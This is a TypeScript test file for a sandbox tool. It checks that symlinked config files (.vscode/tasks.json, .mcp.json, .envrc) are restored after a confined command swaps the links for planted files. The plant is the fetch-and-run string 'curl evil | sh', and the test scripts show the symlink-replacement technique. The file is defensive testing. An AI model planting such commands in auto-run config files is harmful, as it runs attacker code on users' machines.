// Protected files reached through a symlink in the workspace (`.vscode -> real`, `.mcp.json ->
// sub/x`, `.envrc -> ../outside/envrc`): bubblewrap binds the target read-only, but the link lies
// in the writable root. A confined command replaces the link by a dir or file of its own holding
// a plant. Once the run is over the link is made again and what took its place is moved aside
// (reported as refused); the control opts the path out (`unprotectedPaths`) and the plant stays.
// Landlock holds nothing during the run (its account says so) but restores the link after it.
// As root and as uid 65534 (the workspace theirs, so only cordon stands between the run and it).
import { describe, expect, it } from 'vitest'
import type { SandboxBackendName } from '../../../src/policy/backends.js'
import { needBackend } from '../../support/sandbox/backends.js'
import type { AttackUser } from '../attacks/attack.js'
import { runScriptAs, USERS } from '../host/run-as.js'
import type { EditorCase, EditorOutcome } from './editor-files-host.js'
import { scratchDirAs } from '../../support/scratch.js'

const HOST = `${import.meta.dirname}/editor-files-host.ts`
const TASK = '{"tasks":[]}'
const EVIL = 'curl evil | sh'
const opted = (out: boolean, name: string) => `${name}${out ? '-unprotected' : ''}`

/** Each attack, and its control with the protection opted out. */
const CASES: EditorCase[] = [
  ...[false, true].map((out) => ({
    name: opted(out, 'linked-dir'),
    files: { 'real/tasks.json': TASK },
    links: { '.vscode': 'real' },
    script: `rm .vscode && mkdir .vscode && echo '${EVIL}' > .vscode/tasks.json`,
    policy: out ? { unprotectedPaths: ['.vscode'] } : {},
    check: ['.vscode/tasks.json'],
  })),
  ...[false, true].map((out) => ({
    name: opted(out, 'linked-file'),
    files: { 'sub/x': TASK },
    links: { '.mcp.json': 'sub/x' },
    script: `rm .mcp.json; echo '${EVIL}' > .mcp.json`,
    policy: out ? { unprotectedPaths: ['.mcp.json'] } : {},
    check: ['.mcp.json'],
  })),
  ...[false, true].map((out) => ({
    name: opted(out, 'linked-outside'),
    files: { [`../${opted(out, 'outside')}/envrc`]: 'true' },
    links: { '.envrc': `../${opted(out, 'outside')}/envrc` },
    script: `rm .envrc; echo '${EVIL}' > .envrc`,
    policy: out ? { unprotectedPaths: ['.envrc'] } : {},
    check: ['.envrc'],
  })),
]

async function attack(backend: SandboxBackendName, user: AttackUser): Promise<Record<string, EditorOutcome>> {
  const base = scratchDirAs(user, `cordon-linked-${backend}`)
  const r = await runScriptAs(user, HOST, [JSON.stringify({ backend, base, cases: CASES })], { timeoutMs: 240_000 })
  expect(r.code, r.stderr).toBe(0)
  const outcomes = JSON.parse(r.stdout) as EditorOutcome[]
  return Object.fromEntries(outcomes.map((o) => [o.name, o]))
}

/** The link is back and the plant gone (what the lexical path reads is the target's text again). */
function expectRestored(o: Record<string, EditorOutcome>) {
  expect(o['linked-dir']?.linksAfter['.vscode']).toBe('real')
  expect(o['linked-dir']?.after['.vscode/tasks.json']).toBe(TASK)
  expect(o['linked-dir']?.refused).toContain('.vscode')
  expect(o['linked-file']?.linksAfter['.mcp.json']).toBe('sub/x')
  expect(o['linked-file']?.after['.mcp.json']).toBe(TASK)
  expect(o['linked-file']?.refused).toContain('.mcp.json')
  expect(o['linked-outside']?.linksAfter['.envrc']).toBe('../outside/envrc')
  expect(o['linked-outside']?.after['.envrc']).toBe('true')
  expect(o['linked-outside']?.refused).toContain('.envrc')
  // Opted out: the plant stays where the link was.
  expect(o['linked-dir-unprotected']?.linksAfter['.vscode']).toBeNull()
  expect(o['linked-dir-unprotected']?.after['.vscode/tasks.json']).toBe(`${EVIL}\n`)
  expect(o['linked-file-unprotected']?.after['.mcp.json']).toBe(`${EVIL}\n`)
  expect(o['linked-outside-unprotected']?.after['.envrc']).toBe(`${EVIL}\n`)
}

describe('protected files reached through a symlink stay as they were', () => {
  for (const user of USERS) {
    it(`bubblewrap as ${user}: the replaced link is made again, the plant moved aside`, async (ctx) => {
      await needBackend(ctx, 'bubblewrap')
      const o = await attack('bubblewrap', user)
      expectRestored(o)
      // The link was writable during the run: the account names only the targets as read-only.
      expect(o['linked-dir']?.protectedHow).not.toMatch(/\/\.vscode\b/)
    })

    it(`landlock as ${user}: the replaced link is made again after the run`, async (ctx) => {
      await needBackend(ctx, 'landlock')
      const o = await attack('landlock', user)
      expect(o['linked-dir']?.protectedGoverned).toBe(false)
      expectRestored(o)
    })
  }
})
